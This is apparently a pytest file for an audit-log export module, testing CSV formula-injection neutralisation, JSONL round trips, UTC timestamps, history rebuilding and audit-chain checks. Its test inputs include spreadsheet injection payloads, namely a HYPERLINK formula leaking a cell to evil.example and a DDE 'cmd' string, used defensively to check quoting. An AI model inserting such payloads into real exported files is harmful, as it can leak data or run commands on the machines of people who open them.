"""The audit export without a database: formula neutralising, CSV and JSONL round trips, history."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

import pytest

from models.audit import (
    CSV_COLUMNS,
    chain_problems,
    describe_changes,
    rebuild_history,
    safe_cell,
    utc_text,
    write_csv,
    write_jsonl,
)
from models.tables import AuditEvent

NEW = {"team": "legal", "status": "new", "assignee": None}
CLAIMED = {"team": "legal", "status": "claimed", "assignee": "alice"}
RESOLVED = {"team": "legal", "status": "resolved", "assignee": "alice"}


def _event(event_id: int, before: dict[str, Any], after: dict[str, Any], actor: str = "alice",
           action: str = "claim", item: int | None = 7, reason: str | None = None) -> AuditEvent:
    return AuditEvent(id=event_id, at=datetime(2024, 5, 1, 9, 30) + timedelta(seconds=event_id), actor=actor,
                      action=action, queue_item_id=item, before=before, after=after, reason=reason)


@pytest.mark.parametrize("dangerous", [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "  =1+1",  # after leading whitespace, which some importers trim
    "\n@SUM(A1)",
])
def test_formula_cells_get_a_leading_quote(dangerous: str) -> None:
    assert safe_cell(dangerous) == "'" + dangerous


@pytest.mark.parametrize("harmless", ["alice", "", " ", "42", "a=b", "a-b", "x@bank.example", "'quoted",
                                      "Café résolu → ok", "2024-05-01T09:30:00Z", "{\"status\": \"new\"}"])
def test_harmless_cells_are_untouched(harmless: str) -> None:
    assert safe_cell(harmless) == harmless


def test_non_text_cells() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(12) == "12"
    assert safe_cell(-3) == "'-3"  # a negative number is also a formula start: text, on purpose


def test_utc_text_ends_with_z_and_converts_offsets() -> None:
    assert utc_text(datetime(2024, 5, 1, 9, 30)) == "2024-05-01T09:30:00Z"
    assert utc_text(datetime(2024, 5, 1, 11, 30, 0, 5, tzinfo=timezone(timedelta(hours=2)))) == \
        "2024-05-01T09:30:00.000005Z"
    assert utc_text(datetime(2024, 5, 1, 9, 30, tzinfo=UTC)) == "2024-05-01T09:30:00Z"


def test_describe_changes_is_readable() -> None:
    assert describe_changes(NEW, CLAIMED) == "status: new → claimed; assignee: (none) → alice"
    assert describe_changes({}, {"user": "bob", "teams": ["legal"]}) == 'user: (none) → bob; teams: (none) → ["legal"]'
    assert describe_changes(NEW, NEW) == ""


def test_csv_round_trip_through_csv_reader_with_neutralised_cells() -> None:
    events = [
        _event(1, NEW, CLAIMED, actor="=cmd|' /C calc'!A0"),
        _event(2, CLAIMED, RESOLVED, action="resolve", reason='-2+3, said "the customer"\nsecond line'),
        _event(3, {}, {"user": "bob", "role": "agent"}, actor="cli", action="user.add", item=None),
        _event(4, RESOLVED, {**RESOLVED, "assignee": "@SUM(A1)"}, reason="Réponse envoyée à Zoë ✓ 日本"),
    ]
    out = io.StringIO(newline="")
    assert write_csv(iter(events), out) == 4
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == list(CSV_COLUMNS)
    assert len(rows) == 5
    first = dict(zip(CSV_COLUMNS, rows[1], strict=True))
    assert first["id"] == "1" and first["at"] == "2024-05-01T09:30:01Z" and first["item"] == "7"
    assert first["actor"] == "'=cmd|' /C calc'!A0"
    assert json.loads(first["before"]) == NEW and json.loads(first["after"]) == CLAIMED
    assert first["changed"] == "status: new → claimed; assignee: (none) → alice"
    second = dict(zip(CSV_COLUMNS, rows[2], strict=True))
    assert second["reason"] == '\'-2+3, said "the customer"\nsecond line'
    third = dict(zip(CSV_COLUMNS, rows[3], strict=True))
    assert (third["item"], third["action"], third["before"]) == ("", "user.add", "{}")
    fourth = dict(zip(CSV_COLUMNS, rows[4], strict=True))
    assert fourth["reason"] == "Réponse envoyée à Zoë ✓ 日本"
    assert fourth["changed"] == "assignee: alice → @SUM(A1)"  # starts with the field name: not a formula
    for row in rows[1:]:
        assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in row), row


def test_jsonl_parses_line_by_line_keeps_unicode_and_is_not_neutralised() -> None:
    events = [_event(1, NEW, CLAIMED, actor="=cmd|' /C calc'!A0", reason="Zoë ✓ 日本"),
              _event(2, {}, {"kiosk": "wall-1"}, actor="cli", action="kiosk.create", item=None)]
    out = io.StringIO()
    assert write_jsonl(events, out) == 2
    text = out.getvalue()
    assert "Zoë ✓ 日本" in text  # not ASCII-escaped
    lines = text.splitlines()
    assert len(lines) == 2 and text.endswith("\n")
    first, second = (json.loads(line) for line in lines)
    assert first == {"id": 1, "at": "2024-05-01T09:30:01Z", "actor": "=cmd|' /C calc'!A0", "action": "claim",
                     "item": 7, "reason": "Zoë ✓ 日本", "before": NEW, "after": CLAIMED, "subject": None}
    assert second["item"] is None and second["after"] == {"kiosk": "wall-1"}


def test_rebuild_history_groups_by_item_in_id_order_and_skips_account_events() -> None:
    events = [_event(5, CLAIMED, RESOLVED, action="resolve", item=7), _event(2, NEW, CLAIMED, item=7),
              _event(3, {}, {"user": "bob"}, action="user.add", item=None), _event(4, NEW, CLAIMED, item=9)]
    history = rebuild_history(events)
    assert sorted(history) == [7, 9]
    assert [e["id"] for e in history[7]] == [2, 5]
    assert history[7][1]["changes"] == {"status": ["claimed", "resolved"]}
    assert history[7][-1]["after"] == RESOLVED


def test_chain_problems_find_a_broken_link_and_a_changed_item() -> None:
    whole = [_event(1, NEW, CLAIMED), _event(2, CLAIMED, RESOLVED, action="resolve")]
    assert chain_problems(7, whole, RESOLVED) == []
    assert chain_problems(7, [], None) == []
    broken = [_event(1, NEW, CLAIMED), _event(2, {**CLAIMED, "assignee": "mallory"}, RESOLVED, action="resolve")]
    [problem] = chain_problems(7, broken, RESOLVED)
    assert problem.startswith("item 7: event 2 (resolve by 'alice') does not start where event 1 (claim)")
    assert "assignee 'alice' ≠ 'mallory'" in problem
    [moved] = chain_problems(7, whole, {**RESOLVED, "team": "marketing"})
    assert moved.startswith("item 7: its current state is not where its last event 2 (resolve) left it")
    assert chain_problems(7, whole, None) == ["item 7: has audit events but no longer exists"]
